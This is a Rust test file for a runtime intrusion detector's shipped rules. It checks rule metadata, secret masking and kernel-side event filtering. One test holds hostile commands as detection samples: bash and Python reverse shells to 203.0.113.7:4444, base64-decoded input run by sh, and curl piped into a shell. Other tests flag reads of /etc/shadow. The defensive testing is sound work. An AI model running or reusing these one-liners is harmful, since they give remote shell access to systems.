//! The rules that ship are without fault, and each is shown by examples.

use std::{
    collections::{BTreeMap, BTreeSet},
    sync::Arc,
};

use ethogram_detect::rules::{Outcome, RuleSet, RuleState, Rules, check_examples};
use ethogram_model::{FieldTest, TrackerSchema, build};

use super::Origin;
use crate::config;

fn shipped() -> Vec<ethogram_detect::rules::File> {
    let files = Origin::configured(&config::Rules { shipped: true, files: Vec::new() }).read().unwrap().files;
    assert!(!files.is_empty());
    files
}

fn trackers() -> Vec<Arc<TrackerSchema>> {
    ethogram_probe::builtin().unwrap().into_iter().map(|t| t.schema).collect()
}

#[test]
fn are_all_armed_and_without_problems() {
    let loaded = RuleSet::load(&shipped(), &trackers());
    assert!(loaded.problems.is_empty(), "{:#?}", loaded.problems);
    for rule in loaded.set.rules() {
        assert_eq!(rule.state, RuleState::Armed, "{}", rule.name);
    }
}

#[test]
fn do_what_their_examples_say() {
    let failed: Vec<Outcome> =
        check_examples(&shipped(), &trackers()).into_iter().filter(|o| o.failure.is_some()).collect();
    assert!(failed.is_empty(), "{failed:#?}");
}

#[test]
fn have_all_that_an_alert_needs() {
    let is_technique =
        |tag: &String| tag.strip_prefix('T').is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_digit()));
    for rule in RuleSet::load(&shipped(), &trackers()).set.rules() {
        let name = &rule.name;
        assert!(rule.tags.iter().any(is_technique), "{name} has no technique");
        assert!(rule.tags.iter().any(|t| t == "container" || t == "host"), "{name} does not say where it holds");
        assert!(rule.desc.ends_with('.'), "{name} has no sentence of its own");
    }
    // What only the file has: examples of both kinds, and what to do next.
    for file in shipped() {
        let mut rules: BTreeMap<&str, [bool; 3]> = BTreeMap::new();
        let mut rule = "";
        for line in file.text.lines() {
            if let Some(name) = line.strip_prefix("- rule: ") {
                rule = name;
                rules.insert(rule, [false; 3]);
            } else if line.starts_with("- ") {
                rule = "";
            } else if let Some(has) = rules.get_mut(rule) {
                let keys = ["  next: ", "    hits:", "    misses:"];
                keys.iter().zip(has).filter(|(key, _)| line.starts_with(**key)).for_each(|(_, has)| *has = true);
            }
        }
        for (rule, has) in rules {
            assert_eq!(has, [true; 3], "{}: {rule} lacks 'next', or examples that hit or miss", file.name);
        }
    }
}

#[test]
fn leave_names_to_other_files() {
    for file in shipped() {
        let names =
            file.text.lines().filter_map(|l| l.strip_prefix("- macro: ").or_else(|| l.strip_prefix("- list: ")));
        for name in names {
            assert!(name.starts_with("eg_"), "{}: '{name}' may be another file's name, too", file.name);
        }
    }
}

/// An attacker chooses names: what a rule excuses is a program of the image, or the rule says why.
#[test]
fn excuse_no_names() {
    const REASON: &str = "  # By name: ";
    let mut reasons = BTreeSet::new();
    for file in shipped() {
        let mut rule = None;
        for line in file.text.lines() {
            match (line.starts_with("- "), rule) {
                (true, _) => rule = line.strip_prefix("- rule: "),
                (false, Some(rule)) if line.starts_with(REASON) => _ = reasons.insert(rule.to_owned()),
                (false, _) => {}
            }
        }
    }
    let found = RuleSet::load(&shipped(), &trackers()).set.excused_by_name();
    let wrong: Vec<_> = found.iter().filter(|(rule, _)| !reasons.contains(rule)).collect();
    assert!(wrong.is_empty(), "ask for proc.program, or say why with '{}': {wrong:#?}", REASON.trim());
    let idle: Vec<_> = reasons.iter().filter(|rule| found.iter().all(|(of, _)| of != *rule)).collect();
    assert!(idle.is_empty(), "these give a reason for nothing: {idle:?}");
}

/// What stands beside a secret is seen in what is left of a text, too.
#[test]
fn see_what_stands_beside_a_secret() {
    let trackers = trackers();
    let schema = trackers.iter().flat_map(|t| &t.events).find(|e| &*e.tracker == "process" && &*e.name == "exec");
    let mut rules = Rules::new(Arc::new(RuleSet::load(&shipped(), &trackers).set));
    let shell = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1";
    let python = "import socket,pty;s=socket.create_connection(('203.0.113.7',4444));pty.spawn('/bin/sh')";
    for (path, option, text, wanted) in [
        ("/bin/bash", "-c", format!("PASSWORD=hunter2; {shell}"), "Shell Told To Connect"),
        ("/bin/bash", "-c", format!("curl -u me:hunter2 http://h/; {shell}"), "Shell Told To Connect"),
        ("/bin/bash", "-c", format!("X_TOKEN='hunter2';{shell}"), "Shell Told To Connect"),
        ("/bin/sh", "-c", ": basic ; echo aWQK|base64 -d|sh".into(), "Encoded Command Decoded And Run"),
        ("/bin/sh", "-c", "token=abcd;echo aWQK|base64 -d|sh".into(), "Encoded Command Decoded And Run"),
        ("/bin/sh", "-c", "echo \"visual basic rocks\"; curl http://h/x | sh".into(), "Download Piped Into A Shell"),
        ("/usr/bin/python3", "-c", format!("password=\"hunter2\";{python}"), "Script Opens A Shell Over The Network"),
    ] {
        let mut args = format!("{path}\0{option}\0{text}").into_bytes();
        ethogram_engine::secrets::mask(&mut args);
        let args: Vec<String> = args.split(|b| *b == 0).map(|arg| String::from_utf8_lossy(arg).into_owned()).collect();
        assert!(!args[2].contains("hunter2"), "{}", args[2]);
        let fields = [
            ("process.executable.path".to_owned(), vec![path.to_owned()]),
            ("process.command_args".to_owned(), args.clone()),
            ("container.name".to_owned(), vec!["web".to_owned()]),
        ];
        let matching = rules.matching(&build::event(schema.unwrap(), &fields).unwrap());
        assert!(matching.iter().any(|rule| &**rule == wanted), "{args:?}: {matching:?}");
    }
}

/// One rule that may hold for any file would have the kernel report every open.
#[test]
fn leave_the_reads_of_ordinary_files_to_the_kernel() {
    let trackers = trackers();
    let schema = trackers.iter().find(|t| &*t.name == "open").and_then(|t| t.events.first()).unwrap();
    let mut rules = Rules::new(Arc::new(RuleSet::load(&shipped(), &trackers).set));
    let mut may_match = |path: &str| {
        let fields = [("file.path", path), ("file.type", "regular"), ("container.name", "web")];
        let fields: Vec<_> = fields.map(|(field, value)| (field.to_owned(), vec![value.to_owned()])).into();
        rules.may_match_object(&build::event(schema, &fields).unwrap())
    };
    for path in
        ["/srv/www/index.html", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/var/lib/postgresql/data/base/1", "/tmp/x"]
    {
        assert!(!may_match(path), "{path}");
    }
    assert!(may_match("/etc/shadow"));
}

/// What a server does all day becomes its habit only where no rule may hold for the same again.
#[test]
fn leave_the_habits_of_a_server_to_the_kernel() {
    let trackers = trackers();
    let mut rules = Rules::new(Arc::new(RuleSet::load(&shipped(), &trackers).set));
    let mut may_match = |kind: &str, own: &[(&str, &str)]| {
        let schemas = trackers.iter().flat_map(|t| &t.events);
        let schema = schemas.into_iter().find(|e| format!("{}.{}", e.tracker, e.name) == kind).unwrap();
        let server = [
            ("process.executable.path", "/usr/sbin/nginx"),
            ("process.command_args", "nginx: worker process"),
            ("process.ancestors", "/usr/sbin/nginx"),
            ("process.user.id", "33"),
            ("user.name", "www-data"),
            ("container.image.name", "nginx:1.27"),
        ];
        let fields = server.iter().chain(own).map(|(field, value)| ((*field).into(), vec![(*value).into()]));
        rules.may_match_habit(&build::event(schema, &fields.collect::<Vec<_>>()).unwrap())
    };
    let open =
        |path, more: &[(&'static str, &'static str)]| [&[("file.path", path), ("file.type", "regular")], more].concat();
    let ends = |address, port, own| {
        [
            ("network.peer.address", address),
            ("network.peer.port", port),
            ("network.local.address", "172.17.0.2"),
            ("network.local.port", own),
        ]
    };
    let append = [("file.open.write", "true"), ("file.open.flags", "O_WRONLY|O_CREAT|O_APPEND")];
    let usual = [
        ("tcp.accept", ends("10.0.0.9", "41000", "80").to_vec()),
        ("tcp.listen", vec![("network.local.port", "80")]),
        ("tcp.connect", ends("10.0.0.7", "5432", "41000").to_vec()),
        ("net.peer", ends("127.0.0.11", "53", "41000").to_vec()),
        ("open.open", open("/var/log/nginx/access.log", &append)),
        ("open.open", open("/var/cache/nginx/1/ab/0123", &append)),
        ("open.open", open("/usr/share/nginx/html/index.html", &[])),
        ("open.open", open("/etc/nginx/ssl/server.key", &[])),
        ("open.open", open("/etc/passwd", &[])),
    ];
    for (kind, fields) in &usual {
        assert!(!may_match(kind, fields), "{kind} {fields:?}");
    }
    assert!(may_match("open.open", &open("/etc/shadow", &[])));
}

/// Programs look for files where there are none all the time.
#[test]
fn leave_opens_that_fail_to_the_kernel() {
    let wanted = RuleSet::load(&shipped(), &trackers()).set.wanted_events();
    assert!(wanted["open"].contains_key("open") && !wanted["open"].contains_key("failed"), "{:?}", wanted["open"]);
}

/// Every archive that is unpacked changes permissions, and only those that lend a user's rights matter.
#[test]
fn have_the_kernel_look_at_the_permissions_that_are_given() {
    let wanted = RuleSet::load(&shipped(), &trackers()).set.wanted_events();
    assert_eq!(wanted["fs"]["chmod"], [FieldTest::any_of("file.mode", 0o4100)]);
    assert_eq!(wanted["process"]["exec"], []);
}
